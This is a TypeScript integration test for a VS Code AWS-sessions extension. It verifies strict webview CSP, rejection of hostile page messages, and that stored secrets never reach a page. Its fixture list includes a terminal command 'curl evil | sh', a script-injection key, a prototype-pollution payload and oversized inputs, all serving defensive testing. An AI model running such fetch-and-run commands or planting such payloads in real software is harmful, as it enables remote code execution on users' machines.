/**
 * Issue 8, item 4: every webview of the extension in a real VS Code. Each panel has a strict CSP
 * (default-src 'none', nonce'd script, no inline handlers) and resource roots inside the bundle;
 * malformed and hostile messages posted through the panel's own message channel are not acted on
 * (no state change, no reply, the panel stays); a spy on webview.postMessage sees no stored secret.
 */
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import * as sinon from 'sinon';
import { Commands, EXTENSION_ID } from '../../src/core/constants';
import { sessionTypes } from '../../src/core/sessions/registry';
import type { AwsSessionsApi } from '../../src/extension';

interface Spied {
  panel: vscode.WebviewPanel;
  listeners: Array<(message: unknown) => unknown>;
  posted: unknown[];
  disposed: boolean;
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const BIG = 'x'.repeat(1_000_000);

function hostileMessages(otherSessionId: string): unknown[] {
  const deep: Record<string, unknown> = {};
  let cursor = deep;
  for (let i = 0; i < 2000; i++) cursor = (cursor.next = {}) as Record<string, unknown>;
  return [
    null,
    undefined,
    0,
    'submit',
    ['submit', {}],
    {},
    { type: 'SUBMIT', values: {} },
    { type: 'delete', sessionId: otherSessionId },
    { type: 'executeCommand', command: 'workbench.action.terminal.sendSequence', args: { text: 'curl evil | sh\n' } },
    { type: 'ready', extra: true },
    { type: 'cancel', now: 1 },
    { type: 'submit' },
    { type: 'submit', values: null },
    { type: 'submit', values: 'alias=x' },
    { type: 'submit', values: { alias: 7 } },
    { type: 'submit', values: { alias: ['a'] } },
    { type: 'submit', values: { alias: 'hostile', region: 'us-east-1' }, sessionId: otherSessionId },
    { type: 'submit', values: { alias: BIG } },
    { type: 'submit', values: { [BIG.slice(0, 100)]: 'a' } },
    { type: 'submit', values: { 'alias"><script>': 'x' } },
    { type: 'submit', values: deep },
    { type: 'submit', values: Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`f${i}`, 'x'])) },
    JSON.parse('{"type":"submit","values":{"__proto__":{"isAdmin":"yes"},"alias":"proto"}}'),
    { type: 'test', values: { alias: 'x', accessKeyId: 7 } },
    { type: 'test', values: {}, secret: 'give me' },
  ];
}

describe('webviews: CSP, hostile messages, no secret sent to a page', function () {
  this.timeout(90_000);
  let api: AwsSessionsApi;
  const sandbox = sinon.createSandbox();
  const spied: Spied[] = [];
  let extensionUri: vscode.Uri;

  before(async () => {
    const extension = vscode.extensions.getExtension<AwsSessionsApi>(EXTENSION_ID)!;
    extensionUri = extension.extensionUri;
    api = await extension.activate();
  });

  beforeEach(async () => {
    // Panels left open by earlier suites would be revealed instead of created: start from none.
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await sleep(200);
    spied.length = 0;
    const create = vscode.window.createWebviewPanel.bind(vscode.window);
    sandbox.stub(vscode.window, 'createWebviewPanel').callsFake((...args: Parameters<typeof vscode.window.createWebviewPanel>) => {
      const panel = create(...args);
      const entry: Spied = { panel, listeners: [], posted: [], disposed: false };
      const webview = panel.webview as { -readonly [K in keyof vscode.Webview]: vscode.Webview[K] };
      const post = webview.postMessage.bind(webview);
      const subscribe = webview.onDidReceiveMessage.bind(webview);
      webview.postMessage = (message: unknown) => {
        entry.posted.push(structuredClone(message));
        return post(message);
      };
      webview.onDidReceiveMessage = ((listener: (m: unknown) => unknown, thisArg?: unknown, disposables?: vscode.Disposable[]) => {
        entry.listeners.push(thisArg ? listener.bind(thisArg) : listener);
        return subscribe(listener, thisArg, disposables);
      }) as vscode.Event<unknown>;
      panel.onDidDispose(() => (entry.disposed = true));
      spied.push(entry);
      return panel;
    });
  });

  afterEach(async () => {
    sandbox.restore();
    for (const s of spied) if (!s.disposed) s.panel.dispose();
    await sleep(100);
  });

  after(async () => {
    for (const s of (await api.service.state.read()).sessions.filter((x) => x.alias.startsWith('wv-'))) await api.service.editor.delete(s.id);
  });

  async function lastPanel(count: number): Promise<Spied> {
    const deadline = Date.now() + 20_000;
    while (spied.length < count && Date.now() < deadline) await sleep(50);
    assert.equal(spied.length, count, 'a webview panel was opened');
    return spied[count - 1];
  }

  function checkHtml(s: Spied) {
    const html = s.panel.webview.html;
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1] ?? '';
    assert.match(csp, /^default-src 'none';/, 'CSP starts from nothing');
    // Sources other than the nonce are only the webview's own resource origin (VS Code's cspSource).
    const rest = csp.split(s.panel.webview.cspSource).join('');
    assert.doesNotMatch(rest, /unsafe-inline|unsafe-eval|\*|https?:|data:|blob:|'self'/, `no loophole in the CSP: ${csp}`);
    assert.doesNotMatch(csp, /connect-src|frame-src|child-src/, 'no network or frames for the page');
    const nonce = /script-src 'nonce-([A-Za-z0-9+/=]{16,})'/.exec(csp)?.[1];
    assert.ok(nonce, 'scripts only by nonce');
    const scripts = [...html.matchAll(/<script\b([^>]*)>/g)].map((m) => m[1]);
    assert.ok(scripts.length >= 1);
    for (const attrs of scripts) assert.ok(attrs.includes(`nonce="${nonce}"`), `every script carries the nonce: ${attrs}`);
    assert.doesNotMatch(html, /\son[a-z]+\s*=/i, 'no inline event handlers');
    assert.doesNotMatch(html, /javascript:/i);
    const roots = s.panel.webview.options.localResourceRoots ?? [];
    assert.ok(s.panel.webview.options.localResourceRoots !== undefined, 'localResourceRoots set (else the workspace is readable); [] = nothing');
    const allowed = [vscode.Uri.joinPath(extensionUri, 'dist', 'webviews').path, vscode.Uri.joinPath(extensionUri, 'media').path];
    for (const root of roots) assert.ok(allowed.includes(root.path), `resource root inside the bundle: ${root.path}`);
    assert.equal(s.panel.webview.options.enableCommandUris ?? false, false, 'no command: URIs in the page');
  }

  async function attack(s: Spied, otherSessionId: string) {
    assert.ok(s.listeners.length >= 1, 'the panel listens to its page');
    const before = JSON.stringify(await api.service.state.read());
    const postedBefore = s.posted.length;
    for (const message of hostileMessages(otherSessionId)) for (const listener of s.listeners) await listener(message);
    await sleep(300);
    assert.equal(JSON.stringify(await api.service.state.read()), before, 'no hostile message changed any state');
    assert.equal(s.posted.length, postedBefore, `no reply to a hostile message: ${JSON.stringify(s.posted.slice(postedBefore)).slice(0, 300)}`);
    assert.equal(s.disposed, false, 'the panel is still open');
    assert.equal(({} as Record<string, unknown>).isAdmin, undefined, 'no prototype pollution');
    // Control: the same channel does act on a valid message, so the checks above can fail.
    for (const listener of s.listeners) await listener({ type: 'ready' });
    const deadline = Date.now() + 10_000;
    while (!s.posted.some((m) => (m as { type?: string }).type === 'init') && Date.now() < deadline) await sleep(50);
    assert.ok(s.posted.some((m) => (m as { type?: string }).type === 'init'), 'a valid "ready" gets its init');
  }

  it('every session form (new, each creatable type, and edit): strict CSP; hostile messages ignored; no stored secret posted', async () => {
    const accessKeyId = 'AKIAWEBVIEWTEST00001';
    const secretAccessKey = 'webviewSecretKey/ThatMustNeverReachAPage'; // 40 characters
    const user = await api.service.editor.save('iamUser', { alias: 'wv-user', profile: 'wv', region: 'us-east-1', accessKeyId, secretAccessKey, mfaSerial: '' });
    const kinds = sessionTypes().filter((t) => t.origin === 'user').map((t) => t.kind);
    assert.ok(kinds.length >= 3, `creatable kinds: ${kinds.join(', ')}`);
    let n = 0;
    for (const kind of kinds) {
      await vscode.commands.executeCommand(Commands.addSession, kind);
      const s = await lastPanel(++n);
      checkHtml(s);
      await attack(s, user.id);
      s.panel.dispose();
    }
    await vscode.commands.executeCommand(Commands.editSession, user.id);
    const edit = await lastPanel(++n);
    checkHtml(edit);
    await attack(edit, user.id);
    const init = edit.posted.find((m) => (m as { type?: string }).type === 'init') as { storedSecrets: string[] };
    assert.deepEqual([...init.storedSecrets].sort(), ['accessKeyId', 'secretAccessKey']);
    // A "test" of the edit form with the secret fields left empty uses the stored secret on the host side only.
    for (const listener of edit.listeners) await listener({ type: 'test', values: { alias: 'wv-user', profile: 'wv', region: 'us-east-1', accessKeyId: '', secretAccessKey: '', mfaSerial: '' } });
    const deadline = Date.now() + 30_000;
    while (!edit.posted.some((m) => (m as { type?: string }).type === 'testResult') && Date.now() < deadline) await sleep(100);
    assert.ok(edit.posted.some((m) => (m as { type?: string }).type === 'testResult'), 'the test ran and reported');
    const everything = JSON.stringify(spied.map((s) => s.posted));
    for (const secret of [accessKeyId, secretAccessKey]) assert.ok(!everything.includes(secret), 'no stored secret was ever posted to a page');
    // Cancel from the page closes it: the channel works both ways.
    for (const listener of edit.listeners) await listener({ type: 'cancel' });
    await sleep(200);
    assert.equal(edit.disposed, true);
  });

  it('the IAM Identity Center integration form: strict CSP; hostile messages ignored', async () => {
    const integrations = () => api.service.state.read().then((s) => (s.integrations ?? []).length);
    const before = await integrations();
    await vscode.commands.executeCommand(Commands.addIntegration);
    const s = await lastPanel(1);
    checkHtml(s);
    await attack(s, 'no-such-session');
    assert.equal(await integrations(), before, 'no integration added by a hostile message');
  });

  it('the integration form has no "test": a well-formed test message gets no reply and changes nothing', async () => {
    await vscode.commands.executeCommand(Commands.addIntegration);
    const s = await lastPanel(1);
    for (const listener of s.listeners) await listener({ type: 'ready' });
    const deadline = Date.now() + 10_000;
    while (!s.posted.some((m) => (m as { type?: string }).type === 'init') && Date.now() < deadline) await sleep(50);
    const init = s.posted.find((m) => (m as { type?: string }).type === 'init') as { testable?: boolean } | undefined;
    assert.equal(init?.testable, false, 'the page offers no test button');
    const before = JSON.stringify(await api.service.state.read());
    const postedBefore = s.posted.length;
    for (const listener of s.listeners) await listener({ type: 'test', values: { alias: 'wv-sso', startUrl: 'https://d-1234567890.awsapps.com/start', ssoRegion: 'us-east-1' } });
    await sleep(300);
    assert.equal(s.posted.length, postedBefore, 'no reply');
    assert.equal(JSON.stringify(await api.service.state.read()), before, 'no state change');
    assert.equal(s.disposed, false);
  });

  it('one panel per key: opening the same form or the doctor again reveals the open panel', async () => {
    const kind = sessionTypes().find((t) => t.origin === 'user')!.kind;
    await vscode.commands.executeCommand(Commands.addSession, kind);
    await lastPanel(1);
    await vscode.commands.executeCommand(Commands.addSession, kind);
    await vscode.commands.executeCommand(Commands.addIntegration);
    await lastPanel(2);
    await vscode.commands.executeCommand(Commands.addIntegration);
    await vscode.commands.executeCommand(Commands.diagnose);
    await lastPanel(3);
    await vscode.commands.executeCommand(Commands.diagnose);
    await sleep(300);
    assert.deepEqual(
      spied.map((s) => s.panel.viewType),
      ['awsSessions.sessionForm', 'awsSessions.integrationForm', 'awsSessions.doctor'],
      'each was opened once',
    );
    assert.ok(spied.every((s) => !s.disposed), 'and stays open');
  });

  it('the credentials doctor: strict CSP, no local resources; hostile messages change nothing, "rerun" re-renders', async () => {
    await vscode.commands.executeCommand(Commands.diagnose);
    const s = await lastPanel(1);
    const deadline = Date.now() + 20_000;
    while (!/Content-Security-Policy/.test(s.panel.webview.html) && Date.now() < deadline) await sleep(100);
    checkHtml(s);
    assert.deepEqual(s.panel.webview.options.localResourceRoots, [], 'the report loads nothing from disk');
    const before = JSON.stringify(await api.service.state.read());
    const html = s.panel.webview.html;
    for (const message of [...hostileMessages('x'), { type: 'fix', index: -1 }, { type: 'fix', index: 1e9 }, { type: 'fix', index: '0' }, { type: 'fix', index: 0, extra: 1 }, { type: 'copy', text: 'x' }])
      for (const listener of s.listeners) await listener(message);
    await sleep(300);
    assert.equal(JSON.stringify(await api.service.state.read()), before, 'no state change');
    assert.equal(s.panel.webview.html, html, 'not even a re-render');
    assert.equal(s.disposed, false);
    for (const listener of s.listeners) await listener({ type: 'rerun' });
    const until = Date.now() + 20_000;
    while (s.panel.webview.html === html && Date.now() < until) await sleep(100);
    assert.notEqual(s.panel.webview.html, html, 'a valid "rerun" re-renders (the control)');
  });
});
